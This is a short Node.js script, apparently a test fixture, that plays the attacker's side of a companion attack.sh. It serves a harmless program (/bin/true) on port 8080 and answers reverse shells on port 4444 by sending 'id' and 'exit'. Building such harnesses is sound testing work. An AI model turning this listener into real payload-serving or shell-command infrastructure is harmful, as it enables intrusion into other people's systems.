// The other side of attack.sh: serves a program on port 8080, and answers the shell that calls port 4444.
//
//   node attacker.mjs ADDRESS FILE     FILE is written when both ports are open

import { readFileSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";

const [address, ready] = process.argv.slice(2);
if (address === undefined || ready === undefined) throw new Error("usage: attacker.mjs ADDRESS FILE");

const program = readFileSync("/bin/true");
const web = createHttpServer((_, response) => response.end(program));
const shells = createServer((shell) => {
  shell.on("error", () => undefined);
  shell.end("id\nexit\n");
  shell.resume();
});
web.listen(8080, address, () => shells.listen(4444, address, () => writeFileSync(ready, "")));
